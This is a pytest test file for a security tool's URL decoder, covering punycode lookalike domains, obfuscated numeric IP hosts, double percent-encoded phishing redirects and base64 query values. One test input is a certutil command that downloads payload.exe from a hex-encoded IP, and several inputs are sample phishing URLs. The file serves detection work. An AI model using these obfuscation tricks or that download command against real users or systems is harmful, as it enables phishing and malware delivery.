"""decoded.v1 on URLs: punycode, numeric hosts, percent-encoding, base64 query values, parsed parts."""

from __future__ import annotations

import base64
from urllib.parse import quote

import pytest

from distilsec.data.views import get_view
from distilsec.data.views.decoded import SEPARATOR, findings
from distilsec.data.views.urls import ipv4_host, registrable_domain, unicode_host, url_findings

decoded = get_view("decoded.v1")


def test_punycode_host_shows_the_lookalike() -> None:
    host = "p\u0430ypal.com"  # Cyrillic a
    assert host.encode("idna") == b"xn--pypal-4ve.com"  # the test input is the real encoding
    view = decoded("http://xn--pypal-4ve.com/")
    assert view.startswith("http://xn--pypal-4ve.com/" + SEPARATOR)
    assert f"host-unicode: {host}" in view.splitlines()
    assert ("url", f"scheme=http host=xn--pypal-4ve.com domain={host}") in findings("http://xn--pypal-4ve.com/")
    assert len(view) <= 4 * len("http://xn--pypal-4ve.com/")  # the view's cap cuts the last line short


@pytest.mark.parametrize(
    ("host", "quad"),
    [
        ("0x7f000001", "127.0.0.1"),
        ("2130706433", "127.0.0.1"),
        ("017700000001", "127.0.0.1"),
        ("0177.0.0.1", "127.0.0.1"),
        ("0x7f.1", "127.0.0.1"),
        ("127.1", "127.0.0.1"),
        ("3232235777", "192.168.1.1"),
        ("0xC0.0xA8.0x01.0x01", "192.168.1.1"),
    ],
)
def test_numeric_ipv4_hosts(host: str, quad: str) -> None:
    assert ipv4_host(host) == quad
    assert ("host-ip", quad) in findings(f"http://{host}/login")


@pytest.mark.parametrize("host", ["127.0.0.1", "example.com", "4294967296", "256.1.1.1", "1.2.3.4.5", "09"])
def test_not_a_rewritten_ipv4(host: str) -> None:
    assert ("host-ip", ipv4_host(host)) not in findings(f"http://{host}/") or ipv4_host(host) == host


def test_numeric_host_example_in_full() -> None:
    text = "http://0x7f000001/login"
    assert findings(text) == [("host-ip", "127.0.0.1"), ("url", "scheme=http host=0x7f000001 path=login")]
    # a 23-character text gets 3 x 23 characters more: the decoding first, the parts cut to fit
    assert decoded(text) == text + SEPARATOR + "host-ip: 127.0.0.1\nurl: scheme=http host=0x7f000001 path=l"
    assert len(decoded(text)) == 4 * len(text)


def test_percent_encoded_phishing_url() -> None:
    target = "https://paypal.com.account-verify.ru/webscr?cmd=_login-run&dispatch=5885d80a13c0db1f8e"
    once = quote(target, safe="")  # %3A%2F%2F...
    twice = quote(once, safe="")  # %253A%252F...: decoded in two rounds
    url = f"http://redirect.example/r?u={twice}"
    kinds = findings(url)
    assert ("url-decoded", f"http://redirect.example/r?u={target}") in kinds
    # the URL inside the redirect is taken apart in the next layer
    assert ("query-url", f"u={target}") in kinds
    assert any(k == "url" and "host=paypal.com.account-verify.ru domain=account-verify.ru" in v for k, v in kinds)


def test_path_tokens_plus_as_space_and_query_keys() -> None:
    kinds = dict(url_findings("https://login.microsoftonline.com.x.co.uk/common/oauth2/auth.php?client_id=1&q=a+b"))
    assert kinds["url"] == (
        "scheme=https host=login.microsoftonline.com.x.co.uk domain=x.co.uk path=common oauth2 auth php "
        "query=client_id q"
    )
    assert kinds["url-decoded"].endswith("?client_id=1&q=a b")


def test_userinfo_trick_and_port() -> None:
    (kind, parts), *_ = url_findings("http://www.paypal.com@198.51.100.7:8080/signin")
    assert kind == "url"
    assert parts == "scheme=http userinfo=www.paypal.com host=198.51.100.7 port=8080 path=signin"


def test_base64_query_values() -> None:
    email = base64.b64encode(b"victim@example.com").decode()
    urlsafe = base64.urlsafe_b64encode(b"https://evil.example/?a=1>").decode().rstrip("=")
    kinds = findings(f"https://evil.example/index.php?email={email}&next={urlsafe}&id=12345678")
    assert ("query-base64", "email=victim@example.com") in kinds
    assert ("query-base64", "next=https://evil.example/?a=1>") in kinds
    assert not any(v.startswith("id=") for _, v in kinds)


def test_url_inside_a_command_line() -> None:
    text = "certutil.exe -urlcache -split -f http://0xc0a80101/payload.exe C:\\Temp\\p.exe"
    kinds = findings(text)
    assert ("host-ip", "192.168.1.1") in kinds
    assert ("url", "scheme=http host=0xc0a80101 path=payload exe") in kinds


def test_bare_urls_but_not_file_names() -> None:
    assert url_findings("paypal.com.evil.ru/signin?x=1") == [
        ("url", "host=paypal.com.evil.ru domain=evil.ru path=signin query=x")
    ]
    for text in ["cmd.exe", "a.out", "setup.py", "notes.txt", "ls", "ls -la /tmp", "1.5"]:
        assert url_findings(text) == []


def test_helpers() -> None:
    assert unicode_host("xn--80ak6aa92e.com") == "\u0430\u0440\u0440\u04cf\u0435.com"
    assert unicode_host("xn--zz.com") is None and unicode_host("example.com") is None
    assert registrable_domain("a.b.example.co.uk") == "example.co.uk"
    assert registrable_domain("a.b.example.com") == "example.com"


def test_broken_urls_never_raise() -> None:
    for text in ["http://[::1", "http://%zz/%", "http://a.com:99999999/", "://", "http://", "x://y?" + "&" * 10_000]:
        assert decoded(text).startswith(text)
